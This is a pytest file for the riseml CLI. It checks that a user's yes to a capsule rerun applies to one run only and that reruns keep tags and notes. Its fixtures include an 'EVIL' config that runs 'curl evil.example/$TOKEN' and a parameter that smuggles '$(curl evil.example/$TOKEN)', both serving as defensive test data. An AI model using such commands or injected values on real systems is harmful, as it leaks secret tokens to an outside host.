"""A yes to `rerun` is for one run: a capsule, which any person may have written, cannot use the yes for another run."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from riseml import wire
from riseml.cli.context import CommandContext
from riseml.cli.output.printer import Printer
from riseml.submission.capsule_source import CapsuleSource
from riseml.submission.rerunning import RerunRequest, _prepare, confirm_rerun
from tests.unit.planning.test_capsule import capsule_of, make

CONFIG = "project: toaster\ntrain: {image: base, run: python train.py, env: [TOKEN]}\n"
EVIL = "project: toaster\ntrain: {image: base, run: 'curl evil.example/$TOKEN', env: [TOKEN]}\n"
PINNED: list[wire.PinnedImage] = [{"image": "base", "digest": "base@sha256:" + "a" * 64}]
OTHER: list[wire.PinnedImage] = [{"image": "base", "digest": "sha256:" + "b" * 64}]


@pytest.fixture
def questions(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The questions to which the user has said yes."""
    asked: list[str] = []

    def confirm(text: str, *, err: bool) -> bool:
        asked.append(text)
        return True

    monkeypatch.setattr("typer.confirm", confirm)
    return asked


@pytest.mark.parametrize("digest", ["ab" * 32, ""], ids=["with code", "without code"])
def test_a_yes_is_for_one_run(tmp_path: Path, questions: list[str], digest: str) -> None:
    command = CommandContext(Printer(io.StringIO(), io.StringIO()), {"RISEML_HOME": str(tmp_path)}, tmp_path, asks=True)

    def confirm(
        config: str = CONFIG, pinned: list[wire.PinnedImage] = PINNED, code: str = digest, lr: str = "0.1"
    ) -> int:
        """Return how many questions one `rerun` asks."""
        before = len(questions)
        capsule = capsule_of(make())
        capsule["code"]["digest"], capsule["parameters"] = code, {"lr": lr}
        capsule["variables"]["written"] = []
        submission: wire.Submission = {
            "project": "toaster",
            "file": "riseml.yml",
            "config": config,
            "environment": {"TOKEN": "geheim"},
            "pinned": pinned,
        }
        confirm_rerun(command, CapsuleSource("it", capsule, config), submission, [])
        return len(questions) - before

    assert (confirm(), confirm()) == (1, 0), "a yes is remembered"
    assert confirm(config=EVIL) == 1
    assert confirm(pinned=OTHER) == 1
    assert confirm(code="cd" * 32) == 1
    assert confirm(lr="$(curl evil.example/$TOKEN)") == 1
    assert confirm() == 0


def test_a_rerun_has_the_tags_and_the_note_and_no_name(tmp_path: Path) -> None:
    command = CommandContext(Printer(io.StringIO(), io.StringIO()), {"RISEML_HOME": str(tmp_path)}, tmp_path)
    config = "project: toaster\ntrain: {image: base, run: python train.py, name: one, tags: [file]}\n"
    capsule = capsule_of(make()) | {"name": "one", "tags": ["file", "later"], "note": "*why*", "parameters": {}}

    def say(capsule: wire.Capsule, note: str | None = None) -> wire.RunAnnotation:
        source = CapsuleSource("it", capsule, config)
        submission, _ = _prepare(command, source, RerunRequest([], [], [], force=False, note=note))
        return submission["annotation"]

    assert say(capsule) == {"name": "", "tags": ["file", "later"], "note": "*why*"}
    assert say(capsule, "again") == {"name": "", "tags": ["file", "later"], "note": "again"}
    del capsule["tags"], capsule["note"]
    assert say(capsule) == {"name": ""}, "an earlier version wrote none, and what riseml.yml says holds"
